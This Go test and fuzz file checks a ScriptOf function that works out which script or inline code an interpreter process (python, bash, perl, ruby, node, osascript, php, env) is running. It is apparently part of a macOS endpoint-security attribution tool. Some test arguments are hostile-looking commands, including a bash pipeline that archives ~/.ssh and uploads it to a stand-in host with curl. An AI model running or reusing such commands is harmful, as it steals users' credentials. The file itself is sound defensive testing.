package attribution

import (
	"path"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestScriptOf(t *testing.T) {
	const cwd = "/home/alice/work"
	long := strings.Repeat("é", MaxScriptInline) // 2 bytes a rune: the cut must not split one
	tests := []struct {
		name       string
		exe        string
		args       []string
		execScript string
		want       Script
	}{
		// python
		{"python relative script", "/usr/bin/python3.11", []string{"/usr/bin/python3", "-u", "./x.py", "--flag"}, "",
			Script{Interpreter: "python", Path: cwd + "/x.py"}},
		{"python -W value is not the script", "/usr/bin/python3", []string{"python3", "-W", "ignore", "-X", "dev", "y.py"}, "",
			Script{Interpreter: "python", Path: cwd + "/y.py"}},
		{"python attached values", "/usr/bin/python3", []string{"python3", "-Wignore", "-Xutf8", "/opt/z.py"}, "",
			Script{Interpreter: "python", Path: "/opt/z.py"}},
		{"python -c ends options", "/usr/bin/python3", []string{"python3", "-c", "import os; print(os.environ)", "-m", "x.py"}, "",
			Script{Interpreter: "python", Inline: "import os; print(os.environ)"}},
		{"python grouped -uc", "/usr/bin/python3", []string{"python3", "-uc", "print(1)"}, "",
			Script{Interpreter: "python", Inline: "print(1)"}},
		{"python attached -c", "/usr/bin/python3", []string{"python3", "-cprint(2)"}, "",
			Script{Interpreter: "python", Inline: "print(2)"}},
		{"python -m module", "/usr/bin/python3.12", []string{"python3", "-I", "-m", "http.server", "8080"}, "",
			Script{Interpreter: "python", Module: "http.server"}},
		{"python -m attached", "/usr/bin/python3", []string{"python3", "-mpip", "install", "x"}, "",
			Script{Interpreter: "python", Module: "pip"}},
		{"python stdin dash", "/usr/bin/python3", []string{"python3", "-", "arg"}, "",
			Script{Interpreter: "python", Path: ScriptStdin}},
		{"python no script", "/usr/bin/python3", []string{"python3", "-i"}, "",
			Script{Interpreter: "python", Path: ScriptStdin}},
		{"python -- then script", "/usr/bin/python3", []string{"python3", "--", "-weird.py"}, "",
			Script{Interpreter: "python", Path: cwd + "/-weird.py"}},
		{"python long option value", "/usr/bin/python3", []string{"python3", "--check-hash-based-pycs", "always", "s.py"}, "",
			Script{Interpreter: "python", Path: cwd + "/s.py"}},
		{"macOS Python.app", "/Library/Developer/CommandLineTools/Library/Frameworks/Python3.framework/Versions/3.9/Resources/Python.app/Contents/MacOS/Python",
			[]string{"/Library/Developer/CommandLineTools/usr/bin/python3", "/tmp/x.py"}, "",
			Script{Interpreter: "python", Path: "/tmp/x.py"}},
		{"python3.7m", "/usr/bin/python3.7m", []string{"python3.7m", "a.py"}, "", Script{Interpreter: "python", Path: cwd + "/a.py"}},
		// shells
		{"bash -c pipeline", "/usr/bin/bash", []string{"bash", "-c", "tar czf - ~/.ssh | curl -T - https://x.example/u", "bash"}, "",
			Script{Interpreter: "bash", Inline: "tar czf - ~/.ssh | curl -T - https://x.example/u"}},
		{"sh grouped -ec", "/usr/bin/dash", []string{"sh", "-ec", "echo hi"}, "", Script{Interpreter: "dash", Inline: "echo hi"}},
		{"bash -o value before -c", "/bin/bash", []string{"bash", "-o", "pipefail", "-c", "a|b"}, "", Script{Interpreter: "bash", Inline: "a|b"}},
		{"bash -eo pipefail script", "/bin/bash", []string{"bash", "-eo", "pipefail", "run.sh", "x"}, "",
			Script{Interpreter: "bash", Path: cwd + "/run.sh"}},
		{"bash +o value", "/bin/bash", []string{"bash", "+o", "histexpand", "s.sh"}, "", Script{Interpreter: "bash", Path: cwd + "/s.sh"}},
		{"bash --rcfile value", "/bin/bash", []string{"bash", "--norc", "--rcfile", "rc", "-i"}, "", Script{Interpreter: "bash", Path: ScriptStdin}},
		{"bash -s stdin", "/bin/bash", []string{"bash", "-s", "--", "arg"}, "", Script{Interpreter: "bash", Path: ScriptStdin}},
		{"login shell argv0", "/bin/zsh", []string{"-zsh"}, "", Script{Interpreter: "zsh", Path: ScriptStdin}},
		{"zsh versioned", "/usr/local/bin/zsh-5.9", []string{"zsh", "/tmp/a.zsh"}, "", Script{Interpreter: "zsh", Path: "/tmp/a.zsh"}},
		{"busybox sh", "/bin/busybox", []string{"sh", "-c", "wget -O- x"}, "", Script{Interpreter: "sh", Inline: "wget -O- x"}},
		{"fish -c value", "/usr/bin/fish", []string{"fish", "-c", "curl x"}, "", Script{Interpreter: "fish", Inline: "curl x"}},
		{"fish --command=", "/usr/bin/fish", []string{"fish", "--command=curl y"}, "", Script{Interpreter: "fish", Inline: "curl y"}},
		{"tcsh -c", "/bin/tcsh", []string{"tcsh", "-fc", "ls"}, "", Script{Interpreter: "tcsh", Inline: "ls"}},
		// perl
		{"perl -e twice", "/usr/bin/perl", []string{"perl", "-e", "use IO::Socket;", "-e", "print 1", "file"}, "",
			Script{Interpreter: "perl", Inline: "use IO::Socket;\nprint 1"}},
		{"perl -le is -l then -e", "/usr/bin/perl", []string{"perl", "-le", "print 1"}, "", Script{Interpreter: "perl", Inline: "print 1"}},
		{"perl -0777 -ne", "/usr/bin/perl", []string{"perl", "-0777", "-ne", "print", "f"}, "", Script{Interpreter: "perl", Inline: "print"}},
		{"perl -I and -M values", "/usr/bin/perl5.34", []string{"perl", "-I", "lib", "-M", "strict", "-w", "t.pl"}, "",
			Script{Interpreter: "perl", Path: cwd + "/t.pl"}},
		{"perl -i.bak rest", "/usr/bin/perl", []string{"perl", "-i.bak", "-p", "s.pl"}, "", Script{Interpreter: "perl", Path: cwd + "/s.pl"}},
		// ruby
		{"ruby -r and -I", "/usr/bin/ruby", []string{"ruby", "-r", "socket", "-I", "lib", "x.rb"}, "", Script{Interpreter: "ruby", Path: cwd + "/x.rb"}},
		{"ruby -e", "/usr/bin/ruby3.2", []string{"ruby", "-rnet/http", "-e", "Net::HTTP.post"}, "", Script{Interpreter: "ruby", Inline: "Net::HTTP.post"}},
		{"ruby -C dir", "/usr/bin/ruby", []string{"ruby", "-C", "/srv", "app.rb"}, "", Script{Interpreter: "ruby", Path: "/srv/app.rb"}},
		// node
		{"node script after -r", "/usr/bin/node", []string{"node", "-r", "dotenv/config", "--inspect=9229", "up.js"}, "",
			Script{Interpreter: "node", Path: cwd + "/up.js"}},
		{"node -e", "/usr/local/bin/node", []string{"node", "-e", "fetch('x')"}, "", Script{Interpreter: "node", Inline: "fetch('x')"}},
		{"node -pe", "/usr/local/bin/node", []string{"node", "-pe", "1+1"}, "", Script{Interpreter: "node", Inline: "1+1"}},
		{"node --eval=", "/usr/bin/nodejs", []string{"nodejs", "--eval=x()"}, "", Script{Interpreter: "node", Inline: "x()"}},
		{"node --require value", "/usr/bin/node", []string{"node", "--require", "ts-node/register", "a.ts"}, "",
			Script{Interpreter: "node", Path: cwd + "/a.ts"}},
		// osascript, php, Rscript, tclsh
		{"osascript -e lines", "/usr/bin/osascript", []string{"osascript", "-l", "JavaScript", "-e", "a", "-e", "b"}, "",
			Script{Interpreter: "osascript", Inline: "a\nb"}},
		{"osascript file", "/usr/bin/osascript", []string{"osascript", "-s", "o", "steal.scpt", "arg"}, "",
			Script{Interpreter: "osascript", Path: cwd + "/steal.scpt"}},
		{"php -r", "/usr/bin/php8.2", []string{"php", "-d", "x=1", "-r", "echo 1;"}, "", Script{Interpreter: "php", Inline: "echo 1;"}},
		{"php -f", "/usr/bin/php", []string{"php", "-f", "up.php", "--", "a"}, "", Script{Interpreter: "php", Path: cwd + "/up.php"}},
		{"php file", "/usr/bin/php", []string{"php", "-c", "php.ini", "up.php"}, "", Script{Interpreter: "php", Path: cwd + "/up.php"}},
		{"Rscript -e", "/usr/bin/Rscript", []string{"Rscript", "--vanilla", "-e", "q()"}, "", Script{Interpreter: "Rscript", Inline: "q()"}},
		{"Rscript file", "/usr/lib/R/bin/Rscript", []string{"Rscript", "--default-packages=utils", "a.R"}, "", Script{Interpreter: "Rscript", Path: cwd + "/a.R"}},
		{"tclsh -encoding", "/usr/bin/tclsh8.6", []string{"tclsh", "-encoding", "utf-8", "s.tcl"}, "", Script{Interpreter: "tclsh", Path: cwd + "/s.tcl"}},
		// env as launcher
		{"env python3", "/usr/bin/env", []string{"/usr/bin/env", "python3", "x.py"}, "", Script{Interpreter: "python", Path: cwd + "/x.py"}},
		{"env options and assignments", "/usr/bin/env", []string{"env", "-i", "-u", "HOME", "PATH=/bin", "LANG=C", "perl", "-e", "1"}, "",
			Script{Interpreter: "perl", Inline: "1"}},
		{"env -S shebang", "/usr/bin/env", []string{"/usr/bin/env", "-S python3 -u", "./tool.py", "a"}, "",
			Script{Interpreter: "python", Path: cwd + "/tool.py"}},
		{"env -C dir", "/usr/bin/env", []string{"env", "-C", "/srv", "python3", "x.py"}, "", Script{Interpreter: "python", Path: "/srv/x.py"}},
		{"env --chdir= relative", "/usr/bin/env", []string{"env", "--chdir=sub", "--", "python3", "x.py"}, "", Script{Interpreter: "python", Path: cwd + "/sub/x.py"}},
		{"env of env", "/usr/bin/env", []string{"env", "env", "A=1", "bash", "-c", "x"}, "", Script{Interpreter: "bash", Inline: "x"}},
		{"env of a non-interpreter", "/usr/bin/env", []string{"env", "A=1", "curl", "-T", "f", "u"}, "", Script{}},
		{"env alone", "/usr/bin/env", []string{"env"}, "", Script{}},
		// exec script from Endpoint Security
		{"exec script wins", "/usr/bin/python3", []string{"python3", "-c", "x"}, "/Users/a/x.py", Script{Interpreter: "python", Path: "/Users/a/x.py"}},
		{"exec script, unknown interpreter", "/usr/local/bin/lua5.4", []string{"lua", "s.lua"}, "/tmp/s.lua", Script{Interpreter: "lua5.4", Path: "/tmp/s.lua"}},
		// not interpreters
		{"curl", "/usr/bin/curl", []string{"curl", "-T", "x.py", "u"}, "", Script{}},
		{"name is not identity", "/tmp/evil", []string{"python3", "x.py"}, "", Script{}},
		{"python3-config", "/usr/bin/python3-config", []string{"python3-config", "--libs"}, "", Script{}},
		{"shasum", "/usr/bin/shasum", []string{"shasum", "f"}, "", Script{}},
		// bounds
		{"inline cut", "/bin/sh", []string{"sh", "-c", long}, "", Script{Interpreter: "sh", Inline: cutField(long, MaxScriptInline)}},
		{"no args known", "/usr/bin/python3", nil, "", Script{Interpreter: "python"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := &Process{Executable: tc.exe, Args: tc.args, CWD: cwd}
			got := ScriptOf(p, tc.execScript)
			if got != tc.want {
				t.Errorf("ScriptOf(%q %q, %q)\n got %+v\nwant %+v", tc.exe, tc.args, tc.execScript, got, tc.want)
			}
		})
	}
	if ScriptOf(nil, "/x") != (Script{}) {
		t.Error("nil process")
	}
	cut := ScriptOf(&Process{Executable: "/bin/sh", Args: []string{"sh", "-c", long}}, "")
	if len(cut.Inline) > MaxScriptInline || !strings.HasSuffix(cut.Inline, ScriptCut) || !utf8.ValidString(cut.Inline) {
		t.Errorf("cut inline: %d bytes, valid %v", len(cut.Inline), utf8.ValidString(cut.Inline))
	}
	// Without a directory a relative script stays relative.
	if got := ScriptOf(&Process{Executable: "/usr/bin/python3", Args: []string{"python3", "x.py"}}, ""); got.Path != "x.py" {
		t.Errorf("no cwd: %+v", got)
	}
}

func FuzzScriptOf(f *testing.F) {
	f.Add("/usr/bin/python3", "python3\x00-u\x00./x.py", "/home/a", "")
	f.Add("/usr/bin/env", "env\x00-S python3 -c x\x00a", "/", "")
	f.Add("/bin/bash", "bash\x00-eo\x00pipefail\x00-c\x00curl x", "", "")
	f.Add("/usr/bin/perl", "perl\x00-0x1Fle\x00print", "/", "/tmp/s.pl")
	f.Add("/bin/busybox", "-sh", "", "")
	f.Fuzz(func(t *testing.T, exe, argv, cwd, execScript string) {
		var args []string
		if argv != "" {
			args = strings.Split(argv, "\x00")
		}
		p := &Process{Executable: exe, Args: args, CWD: cwd}
		sc := ScriptOf(p, execScript)
		if sc == (Script{}) {
			return
		}
		if sc.Interpreter == "" {
			t.Fatalf("fields without interpreter: %+v", sc)
		}
		if len(sc.Inline) > MaxScriptInline || len(sc.Path) > MaxScriptPath || len(sc.Module) > MaxScriptModule {
			t.Fatalf("unbounded: %d %d %d", len(sc.Inline), len(sc.Path), len(sc.Module))
		}
		set := 0
		for _, s := range []string{sc.Path, sc.Inline, sc.Module} {
			if s != "" {
				set++
			}
		}
		if set > 1 {
			t.Fatalf("more than one of path, inline, module: %+v", sc)
		}
		if sc.Module != "" && sc.Interpreter != "python" {
			t.Fatalf("module for %s", sc.Interpreter)
		}
		if execScript != "" && len(execScript) <= MaxScriptPath && path.IsAbs(execScript) && sc.Path != execScript {
			t.Fatalf("exec script %q not kept: %+v", execScript, sc)
		}
		if path.IsAbs(cwd) && sc.Path != "" && sc.Path != ScriptStdin && len(sc.Path) < MaxScriptPath && !path.IsAbs(sc.Path) {
			t.Fatalf("relative path %q with cwd %q", sc.Path, cwd)
		}
	})
}
